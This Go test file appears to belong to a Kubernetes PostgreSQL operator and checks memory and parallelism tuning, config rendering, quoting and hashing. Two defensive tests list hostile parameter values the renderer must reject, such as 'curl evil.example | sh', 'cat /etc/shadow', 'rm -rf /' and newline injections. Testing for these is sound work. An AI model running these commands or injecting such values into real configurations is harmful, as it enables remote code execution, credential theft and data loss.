package pgtune

import (
	"flag"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/apimachinery/pkg/api/resource"
)

var update = flag.Bool("update", false, "rewrite golden files")

// bytesOf reads a Kubernetes quantity, as users write it in spec.resources.
func bytesOf(q string) int64 {
	v := resource.MustParse(q)
	return v.Value()
}

// TestTune pins the exact values of the main parameters for containers from tiny to large. The
// 1Gi and 4Gi rows are the worked examples of docs/tuning.md.
func TestTune(t *testing.T) {
	noParallel := map[string]string{
		"max_worker_processes": "", "max_parallel_workers": "",
		"max_parallel_workers_per_gather": "", "max_parallel_maintenance_workers": "",
	}
	cases := []struct {
		name string
		in   Input
		want map[string]string // "" means the parameter must not be set
	}{{
		name: "128Mi, 100 connections: tiny but startable",
		in:   Input{MemoryBytes: bytesOf("128Mi"), Connections: 100, Version: "17"},
		want: map[string]string{
			"max_connections": "100", "shared_buffers": "32MB", "effective_cache_size": "96MB",
			"maintenance_work_mem": "8MB", "work_mem": "327kB", "wal_buffers": "976kB",
			"min_wal_size": "1GB", "max_wal_size": "4GB",
		},
	}, {
		name: "32Mi, 10 connections: floors apply",
		in:   Input{MemoryBytes: bytesOf("32Mi"), Connections: 10, Version: "13"},
		want: map[string]string{
			"max_connections": "10", "shared_buffers": "16MB", "effective_cache_size": "24MB",
			"maintenance_work_mem": "2MB", "work_mem": "546kB", "wal_buffers": "488kB",
		},
	}, {
		name: "1Mi, 100 connections: every floor",
		in:   Input{MemoryBytes: bytesOf("1Mi"), Connections: 100, Version: "17"},
		want: map[string]string{
			"shared_buffers": "16MB", "effective_cache_size": "16MB",
			"maintenance_work_mem": "1MB", "work_mem": "64kB", "wal_buffers": "488kB",
		},
	}, {
		name: "512Mi, 100 connections, half a CPU",
		in:   Input{MemoryBytes: bytesOf("512Mi"), CPUs: 0.5, Connections: 100, Version: "16.4"},
		want: map[string]string{
			"max_connections": "100", "shared_buffers": "128MB", "effective_cache_size": "384MB",
			"maintenance_work_mem": "32MB", "work_mem": "1310kB", "wal_buffers": "3928kB",
		},
	}, {
		name: "memory unknown: 512Mi assumed",
		in:   Input{Connections: 100, Version: "17"},
		want: map[string]string{
			"max_connections": "100", "shared_buffers": "128MB", "effective_cache_size": "384MB",
			"maintenance_work_mem": "32MB", "work_mem": "1310kB", "wal_buffers": "3928kB",
		},
	}, {
		name: "1Gi, 100 connections, 1Gi volume",
		in:   Input{MemoryBytes: bytesOf("1Gi"), CPUs: 1, Connections: 100, StorageBytes: bytesOf("1Gi"), Version: "17"},
		want: map[string]string{
			"max_connections": "100", "shared_buffers": "256MB", "effective_cache_size": "768MB",
			"maintenance_work_mem": "64MB", "work_mem": "2621kB", "wal_buffers": "7864kB",
			"min_wal_size": "64MB", "max_wal_size": "256MB",
		},
	}, {
		name: "4Gi, 200 connections, 2 CPUs, 20Gi volume",
		in:   Input{MemoryBytes: bytesOf("4Gi"), CPUs: 2, Connections: 200, StorageBytes: bytesOf("20Gi"), Version: "17"},
		want: map[string]string{
			"max_connections": "200", "shared_buffers": "1GB", "effective_cache_size": "3GB",
			"maintenance_work_mem": "256MB", "work_mem": "5242kB", "wal_buffers": "16MB",
			"min_wal_size": "1GB", "max_wal_size": "4GB",
			"max_worker_processes": "8", "max_parallel_workers": "2",
			"max_parallel_workers_per_gather": "1", "max_parallel_maintenance_workers": "1",
		},
	}, {
		name: "16Gi, 100 connections, 4.5 CPUs, 100Gi volume",
		in:   Input{MemoryBytes: bytesOf("16Gi"), CPUs: 4.5, Connections: 100, StorageBytes: bytesOf("100Gi"), Version: "16"},
		want: map[string]string{
			"max_connections": "100", "shared_buffers": "4GB", "effective_cache_size": "12GB",
			"maintenance_work_mem": "1GB", "work_mem": "41943kB", "wal_buffers": "16MB",
			"min_wal_size": "1GB", "max_wal_size": "4GB",
			"max_worker_processes": "8", "max_parallel_workers": "4",
			"max_parallel_workers_per_gather": "2", "max_parallel_maintenance_workers": "2",
		},
	}, {
		name: "64Gi, 500 connections, 16 CPUs",
		in:   Input{MemoryBytes: bytesOf("64Gi"), CPUs: 16, Connections: 500, Version: "17"},
		want: map[string]string{
			"max_connections": "500", "shared_buffers": "16GB", "effective_cache_size": "48GB",
			"maintenance_work_mem": "2GB", "work_mem": "33554kB", "wal_buffers": "16MB",
			"max_worker_processes": "16", "max_parallel_workers": "16",
			"max_parallel_workers_per_gather": "4", "max_parallel_maintenance_workers": "4",
		},
	}, {
		name: "1000Mi, connections unset: 100 assumed, 3 CPUs",
		in:   Input{MemoryBytes: bytesOf("1000Mi"), CPUs: 3, Version: "17"},
		want: map[string]string{
			"max_connections": "100", "shared_buffers": "250MB", "effective_cache_size": "750MB",
			"maintenance_work_mem": "64000kB", "work_mem": "2560kB", "wal_buffers": "7680kB",
			"max_parallel_workers": "3", "max_parallel_workers_per_gather": "2",
		},
	}, {
		name: "small volume: WAL floors",
		in:   Input{MemoryBytes: bytesOf("1Gi"), Connections: 100, StorageBytes: bytesOf("100Mi"), Version: "17"},
		want: map[string]string{"min_wal_size": "32MB", "max_wal_size": "64MB"},
	}}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := Tune(tc.in)
			want := tc.want
			if !(tc.in.CPUs >= 2) {
				want = mergeMaps(noParallel, want)
			}
			for name, w := range want {
				v, ok := got.Get(name)
				if w == "" {
					assert.False(t, ok, "%s must not be set, got %q", name, v)
					continue
				}
				assert.True(t, ok, "%s is missing", name)
				assert.Equal(t, w, v, name)
			}
			// The fixed settings are the same whatever the resources.
			for name, w := range map[string]string{
				"checkpoint_completion_target": "0.9", "random_page_cost": "1.1",
				"effective_io_concurrency": "200", "default_statistics_target": "100", "huge_pages": "off",
			} {
				v, _ := got.Get(name)
				assert.Equal(t, w, v, name)
			}
		})
	}
}

func mergeMaps(a, b map[string]string) map[string]string {
	m := map[string]string{}
	for k, v := range a {
		m[k] = v
	}
	for k, v := range b {
		m[k] = v
	}
	return m
}

func TestTuneIsDeterministicSortedAndIgnoresVersion(t *testing.T) {
	in := Input{MemoryBytes: bytesOf("4Gi"), CPUs: 2, Connections: 200, StorageBytes: bytesOf("20Gi")}
	first := Tune(in)
	require.True(t, slices.IsSortedFunc(first, func(a, b Setting) int { return strings.Compare(a.Name, b.Name) }))
	require.Len(t, first, 17)
	for _, v := range []string{"", "13", "16.4", "17", "18"} {
		in.Version = v
		assert.Equal(t, first, Tune(in), "version %q", v)
	}
	// NaN and negative inputs behave as unknown, not as garbage.
	assert.Equal(t, Tune(Input{Connections: 100}), Tune(Input{MemoryBytes: -1, CPUs: math.NaN(), Connections: -5, StorageBytes: -1}))
}

func TestGet(t *testing.T) {
	s := Settings{{"a", "1"}, {"b", ""}, {"c", "3"}}
	v, ok := s.Get("b")
	assert.True(t, ok)
	assert.Equal(t, "", v)
	v, ok = s.Get("c")
	assert.True(t, ok)
	assert.Equal(t, "3", v)
	_, ok = s.Get("bb")
	assert.False(t, ok)
	_, ok = Settings(nil).Get("a")
	assert.False(t, ok)
}

func TestMergeOverridesWin(t *testing.T) {
	tuned := Tune(Input{MemoryBytes: bytesOf("1Gi"), Connections: 100})
	before := slices.Clone(tuned)
	overrides := map[string]string{
		"shared_buffers":                "512MB", // replaces a tuned value
		"max_connections":               "50",    // replaces a tuned value
		"log_min_duration_statement":    "250ms", // not tuned: added
		"auto_explain.log_min_duration": "1s",    // extension setting: added in order
	}
	got := Merge(tuned, overrides)

	require.True(t, slices.IsSortedFunc(got, func(a, b Setting) int { return strings.Compare(a.Name, b.Name) }))
	require.Len(t, got, len(tuned)+2)
	for name, w := range overrides {
		v, _ := got.Get(name)
		assert.Equal(t, w, v, name)
	}
	// Everything not overridden keeps its tuned value.
	for _, s := range tuned {
		if _, over := overrides[s.Name]; !over {
			v, _ := got.Get(s.Name)
			assert.Equal(t, s.Value, v, s.Name)
		}
	}
	assert.Equal(t, before, tuned, "Merge must not modify its input")
	assert.Equal(t, "512MB", overrides["shared_buffers"])

	assert.Equal(t, tuned, Merge(tuned, nil))
	assert.Equal(t, Settings{{"a", "x"}}, Merge(nil, map[string]string{"a": "x"}))
	assert.Equal(t, Settings{}, Merge(nil, nil))
}

// TestRenderGolden renders a realistic configuration: a 4Gi, 2-CPU database for 200 connections
// with a few user overrides. The golden shows a reviewer the exact file PostgreSQL reads.
func TestRenderGolden(t *testing.T) {
	tuned := Tune(Input{MemoryBytes: bytesOf("4Gi"), CPUs: 2, Connections: 200, StorageBytes: bytesOf("20Gi"), Version: "17"})
	conf := Render(Merge(tuned, map[string]string{
		"shared_preload_libraries":   "pg_stat_statements",
		"log_min_duration_statement": "250ms",
		"log_line_prefix":            "%m [%p] %q%u@%d ",
		"work_mem":                   "8MB",
	}))
	golden := filepath.Join("testdata", "render_4gi_200conns.golden.conf")
	if *update {
		require.NoError(t, os.WriteFile(golden, []byte(conf), 0o644))
	}
	want, err := os.ReadFile(golden)
	require.NoError(t, err, "run go test -update to create the golden file")
	require.Equal(t, string(want), conf)
}

func TestRenderFormat(t *testing.T) {
	// Render sorts even a hand-built, unsorted list.
	conf := Render(Settings{{"work_mem", "4MB"}, {"application_name", "it's"}})
	lines := strings.Split(strings.TrimSuffix(conf, "\n"), "\n")
	var body []string
	for _, l := range lines {
		if strings.HasPrefix(l, "#") {
			assert.Empty(t, body, "comments only at the top")
			continue
		}
		body = append(body, l)
	}
	assert.Equal(t, []string{"application_name = 'it''s'", "work_mem = '4MB'"}, body)
	assert.Contains(t, conf, "Canopy")
	assert.Contains(t, conf, "spec.parameters")
	assert.Contains(t, conf, "spec.database.parameters")
}

func TestQuote(t *testing.T) {
	cases := map[string]string{
		"":                   `''`,
		"256MB":              `'256MB'`,
		"it's":               `'it''s'`,
		"''":                 `''''''`,
		`C:\pg\archive`:      `'C:\\pg\\archive'`,
		`\'`:                 `'\\'''`,
		"line1\nline2":       `'line1\nline2'`,
		"crlf\r\n":           `'crlf\r\n'`,
		"tab\there":          "'tab\there'",
		"nul\x00byte":        `'nulbyte'`,
		"%m [%p] %q%u@%d ":   `'%m [%p] %q%u@%d '`,
		"héllo, 世界":          `'héllo, 世界'`,
		`"$user", public`:    `'"$user", public'`,
		"# not a comment":    `'# not a comment'`,
		"a = 'b' # c\nd = e": `'a = ''b'' # c\nd = e'`,
	}
	for in, want := range cases {
		got := quote(in)
		assert.Equal(t, want, got, "quote(%q)", in)
		// What PostgreSQL reads back is the value, minus the NUL bytes it cannot hold.
		back, ok := pgUnquote(got)
		require.True(t, ok, "%s is not a valid postgresql.conf string", got)
		assert.Equal(t, strings.ReplaceAll(in, "\x00", ""), back)
	}
}

// quotedString is the lexer rule for a quoted string in PostgreSQL's guc-file.l: no raw newline,
// a backslash escapes any character, and a quote is doubled.
var quotedString = regexp.MustCompile(`^'([^'\\\n]|\\[^\n]|'')*'$`)

// pgUnquote reads a quoted postgresql.conf string the way PostgreSQL does (the lexer rule, then
// DeescapeQuotedString): \b \f \n \r \t, octal escapes, any other backslashed character stands
// for itself, and ” is one quote.
func pgUnquote(s string) (string, bool) {
	if !quotedString.MatchString(s) {
		return "", false
	}
	var b strings.Builder
	for i := 1; i < len(s)-1; i++ {
		c := s[i]
		switch c {
		case '\\':
			i++
			switch e := s[i]; e {
			case 'b':
				b.WriteByte('\b')
			case 'f':
				b.WriteByte('\f')
			case 'n':
				b.WriteByte('\n')
			case 'r':
				b.WriteByte('\r')
			case 't':
				b.WriteByte('\t')
			case '0', '1', '2', '3', '4', '5', '6', '7':
				v := int(e - '0')
				for k := 0; k < 2 && i+1 < len(s)-1 && s[i+1] >= '0' && s[i+1] <= '7'; k++ {
					i++
					v = v*8 + int(s[i]-'0')
				}
				b.WriteByte(byte(v)) //nolint:gosec // G115: like PostgreSQL, an octal escape above \377 keeps its low byte
			default:
				b.WriteByte(e)
			}
		case '\'':
			i++ // the regexp guarantees the quote is doubled
			b.WriteByte('\'')
		default:
			b.WriteByte(c)
		}
	}
	return b.String(), true
}

func TestHash(t *testing.T) {
	base := Merge(Tune(Input{MemoryBytes: bytesOf("1Gi"), Connections: 100}), map[string]string{"log_line_prefix": "%m "})
	h := Hash(Render(base))
	require.Regexp(t, `^[0-9a-f]{16}$`, h)

	// Stable: the same inputs, however reached, give the same hash.
	again := Merge(Tune(Input{MemoryBytes: bytesOf("1Gi"), Connections: 100, Version: "16"}), map[string]string{"log_line_prefix": "%m "})
	assert.Equal(t, h, Hash(Render(again)))
	shared, _ := base.Get("shared_buffers")
	assert.Equal(t, h, Hash(Render(Merge(base, map[string]string{"shared_buffers": shared}))), "an override equal to the tuned value changes nothing")
	reversed := slices.Clone(base)
	slices.Reverse(reversed)
	assert.Equal(t, h, Hash(Render(reversed)), "order of the input does not matter")

	// Any change of any setting changes the hash.
	seen := map[string]string{h: "base"}
	for i, s := range base {
		changed := slices.Clone(base)
		changed[i].Value = s.Value + "1"
		ch := Hash(Render(changed))
		require.NotContains(t, seen, ch, "changing %s", s.Name)
		seen[ch] = s.Name
	}
	added := Hash(Render(Merge(base, map[string]string{"jit": "off"})))
	assert.NotEqual(t, h, added, "an added setting")
	assert.NotEqual(t, h, Hash(Render(base[1:])), "a removed setting")
	assert.NotEqual(t, h, Hash(Render(Tune(Input{MemoryBytes: bytesOf("2Gi"), Connections: 100}))), "other resources")
}

// TestTuneValuesAreValid checks, over a grid of inputs from absurdly small to very large, that
// every value Tune produces is one PostgreSQL accepts for that parameter: the right type, a whole
// number of the parameter's base unit, and within the documented range.
func TestTuneValuesAreValid(t *testing.T) {
	mems := []string{"0", "1Mi", "32Mi", "64Mi", "100Mi", "128Mi", "1000Mi", "1Gi", "3789Mi", "4Gi", "16Gi", "64Gi", "256Gi", "1Ti", "4Ti"}
	conns := []int32{0, 10, 100, 500, 10000}
	cpus := []float64{0, 0.5, 1, 2, 2.5, 3, 7, 16, 128}
	storages := []string{"0", "10Mi", "1Gi", "100Gi", "10Ti"}
	for _, m := range mems {
		for _, c := range conns {
			for _, cpu := range cpus {
				for _, st := range storages {
					in := Input{MemoryBytes: bytesOf(m), Connections: c, CPUs: cpu, StorageBytes: bytesOf(st), Version: "17"}
					checkValid(t, fmt.Sprintf("%+v", in), Tune(in))
				}
			}
		}
	}
}

// param describes how PostgreSQL reads one parameter (from the PostgreSQL documentation).
type param struct {
	kind     string  // "memory", "int", "real" or "enum"
	unitKB   int64   // memory: the base unit in kB; values must be whole multiples of it
	min, max float64 // memory: in base units; int and real: the value
	enum     []string
}

const intMax = math.MaxInt32

var params = map[string]param{
	"shared_buffers":       {kind: "memory", unitKB: 8, min: 16, max: intMax / 2},
	"effective_cache_size": {kind: "memory", unitKB: 8, min: 1, max: intMax},
	"maintenance_work_mem": {kind: "memory", unitKB: 1, min: 1024, max: intMax},
	"work_mem":             {kind: "memory", unitKB: 1, min: 64, max: intMax},
	"wal_buffers":          {kind: "memory", unitKB: 8, min: 4, max: intMax / 8},
	"min_wal_size":         {kind: "memory", unitKB: 1024, min: 32, max: intMax},
	"max_wal_size":         {kind: "memory", unitKB: 1024, min: 32, max: intMax},

	"max_connections":                  {kind: "int", min: 1, max: 262143},
	"effective_io_concurrency":         {kind: "int", min: 0, max: 1000},
	"default_statistics_target":        {kind: "int", min: 1, max: 10000},
	"max_worker_processes":             {kind: "int", min: 0, max: 262143},
	"max_parallel_workers":             {kind: "int", min: 0, max: 1024},
	"max_parallel_workers_per_gather":  {kind: "int", min: 0, max: 1024},
	"max_parallel_maintenance_workers": {kind: "int", min: 0, max: 1024},

	"checkpoint_completion_target": {kind: "real", min: 0, max: 1},
	"random_page_cost":             {kind: "real", min: 0, max: math.MaxFloat64},

	"huge_pages": {kind: "enum", enum: []string{"off", "on", "try"}},
}

func checkValid(t *testing.T, in string, s Settings) {
	t.Helper()
	for _, e := range s {
		p, ok := params[e.Name]
		if !assert.True(t, ok, "%s: unknown parameter %s: describe it in params", in, e.Name) {
			continue
		}
		var err error
		switch p.kind {
		case "memory":
			err = checkMemory(e.Value, p)
		case "int":
			err = checkNumber(e.Value, p, true)
		case "real":
			err = checkNumber(e.Value, p, false)
		case "enum":
			if !slices.Contains(p.enum, e.Value) {
				err = fmt.Errorf("not one of %v", p.enum)
			}
		}
		assert.NoError(t, err, "%s: %s = %q", in, e.Name, e.Value)
	}
	// Relations between settings.
	assert.GreaterOrEqual(t, memKB(t, s, "effective_cache_size"), memKB(t, s, "shared_buffers"), in)
	assert.LessOrEqual(t, memKB(t, s, "min_wal_size"), memKB(t, s, "max_wal_size"), in)
	if v, ok := s.Get("max_parallel_workers"); ok {
		w, _ := s.Get("max_worker_processes")
		assert.LessOrEqual(t, atoi(t, v), atoi(t, w), in)
	}
}

// memoryValue is PostgreSQL's memory syntax as Tune writes it: a whole number and a unit.
var memoryValue = regexp.MustCompile(`^([0-9]+)(kB|MB|GB|TB)$`)

// parseMemory returns a memory value in kB.
func parseMemory(v string) (int64, error) {
	m := memoryValue.FindStringSubmatch(v)
	if m == nil {
		return 0, fmt.Errorf("not a whole number with a unit kB, MB, GB or TB")
	}
	n, err := strconv.ParseInt(m[1], 10, 64)
	if err != nil {
		return 0, err
	}
	mult := map[string]int64{"kB": 1, "MB": 1 << 10, "GB": 1 << 20, "TB": 1 << 30}[m[2]]
	if n > math.MaxInt64/mult {
		return 0, fmt.Errorf("overflow")
	}
	return n * mult, nil
}

func checkMemory(v string, p param) error {
	kb, err := parseMemory(v)
	if err != nil {
		return err
	}
	if kb%p.unitKB != 0 {
		return fmt.Errorf("not a whole number of %dkB", p.unitKB)
	}
	if units := float64(kb / p.unitKB); units < p.min || units > p.max {
		return fmt.Errorf("%v units of %dkB is outside [%v, %v]", units, p.unitKB, p.min, p.max)
	}
	return nil
}

func checkNumber(v string, p param, integer bool) error {
	var f float64
	var err error
	if integer {
		var n int64
		n, err = strconv.ParseInt(v, 10, 64)
		f = float64(n)
	} else {
		if !regexp.MustCompile(`^[0-9]+(\.[0-9]+)?$`).MatchString(v) {
			return fmt.Errorf("not a plain decimal number")
		}
		f, err = strconv.ParseFloat(v, 64)
	}
	if err != nil {
		return err
	}
	if f < p.min || f > p.max {
		return fmt.Errorf("outside [%v, %v]", p.min, p.max)
	}
	return nil
}

func memKB(t *testing.T, s Settings, name string) int64 {
	t.Helper()
	v, _ := s.Get(name)
	kb, err := parseMemory(v)
	require.NoError(t, err, name)
	return kb
}

func atoi(t *testing.T, v string) int {
	t.Helper()
	n, err := strconv.Atoi(v)
	require.NoError(t, err)
	return n
}

// TestParsersRejectInvalid makes sure the validity test can fail.
func TestParsersRejectInvalid(t *testing.T) {
	for _, v := range []string{"", "256", "256mb", "256 MB", "1.5GB", "-1MB", "256MiB", "64KB"} {
		_, err := parseMemory(v)
		assert.Error(t, err, v)
	}
	assert.Error(t, checkMemory("12kB", params["shared_buffers"]), "not whole blocks")
	assert.Error(t, checkMemory("64kB", params["shared_buffers"]), "below the minimum")
	assert.Error(t, checkMemory("16MB", params["min_wal_size"]), "below two segments")
	assert.Error(t, checkNumber("1.5", params["max_connections"], true))
	assert.Error(t, checkNumber("0", params["max_connections"], true))
	assert.Error(t, checkNumber("1.1.1", params["random_page_cost"], false))
	assert.Error(t, checkNumber("1.5", params["checkpoint_completion_target"], false))
	assert.Error(t, checkNumber("1e3", params["random_page_cost"], false))
	_, ok := pgUnquote("'it's'")
	assert.False(t, ok)
	_, ok = pgUnquote("'a\nb'")
	assert.False(t, ok)
}

// TestRefused: the names and values that can never reach postgresql.conf.
func TestRefused(t *testing.T) {
	for _, tc := range []struct {
		name, value string
		refused     bool
	}{
		{"work_mem", "64MB", false},
		{"auto_explain.log_min_duration", "1s", false},
		{"shared_preload_libraries", "pg_stat_statements,auto_explain", false},
		{"shared_preload_libraries", "/var/lib/postgresql/data/evil", true},
		{"session_preload_libraries", "../../../tmp/x", true},
		{"jit_provider", "../x", true},
		{"archive_library", "basic_archive", false},
		{"include", "/etc/passwd", true},
		{"include_dir", "/tmp", true},
		{"include_if_exists", "/tmp/x.conf", true},
		{"archive_command", "true", true},
		{"restore_command", "cp %f %p", true},
		{"archive_cleanup_command", "rm -rf /", true},
		{"recovery_end_command", "sh -c id", true},
		{"ssl_passphrase_command", "echo x", true},
		{"dynamic_library_path", "/tmp", true},
		{"", "x", true},
		{"Work_mem", "1MB", true},
		{"1abc", "x", true},
		{"work_mem = 1MB\ninclude", "x", true},
		{"a b", "x", true},
		{"a=b", "x", true},
		{"a#", "x", true},
		{"a'", "x", true},
	} {
		got := Refused(tc.name, tc.value)
		assert.Equal(t, tc.refused, got != "", "Refused(%q, %q) = %q", tc.name, tc.value, got)
	}
}

// TestRenderLeavesOutRefusedSettings: an object that bypassed admission cannot put a line of its
// own, a directive or a command into the file; the other settings stay.
func TestRenderLeavesOutRefusedSettings(t *testing.T) {
	conf := Render(Merge(nil, map[string]string{
		"work_mem":                     "4MB",
		"x = 1\narchive_command":       "id",
		"include":                      "/etc/passwd",
		"archive_command":              "curl evil.example | sh",
		"shared_preload_libraries":     "/tmp/evil",
		"application_name":             "a'\ninclude '/etc/passwd",
		"log_line_prefix\ninclude_dir": "/tmp",
		"ssl_passphrase_command":       "cat /etc/shadow",
		"session_preload_libraries":    "auto_explain",
		"custom.setting":               `\'; archive_command = 'id`,
		"dynamic_library_path":         "/tmp",
		"unix_socket_group = 'x' # ":   "y",
		"local_preload_libraries":      "a,/b",
		"recovery_end_command":         "id",
		"restore_command":              "id",
		"archive_cleanup_command":      "id",
		"include_if_exists":            "/tmp/x",
		"include_dir":                  "/tmp",
		"jit_provider":                 "../../tmp/x",
		"archive_library":              "/tmp/x",
		"":                             "x",
	}))
	lines := strings.Split(strings.TrimSuffix(strings.TrimPrefix(conf, header), "\n"), "\n")
	var names []string
	for _, l := range lines {
		name, _, ok := strings.Cut(l, " = ")
		require.True(t, ok, "line %q", l)
		names = append(names, name)
	}
	assert.Equal(t, []string{"application_name", "custom.setting", "session_preload_libraries", "work_mem"}, names)
}

// TestAdmissionRefusesTheSameParameters: the CRDs' rules on parameters name every parameter Refused
// knows, so admission and the renderer agree.
func TestAdmissionRefusesTheSameParameters(t *testing.T) {
	for _, crd := range []string{"canopy.dev_stacks.yaml", "components.canopy.dev_databases.yaml"} {
		data, err := os.ReadFile(filepath.Join("..", "..", "config", "crd", "bases", crd))
		require.NoError(t, err)
		for _, name := range slices.Concat(Directives, Commands, Libraries) {
			assert.Contains(t, string(data), "'"+name+"'", "%s: no rule on spec parameters names %s", crd, name)
		}
	}
}
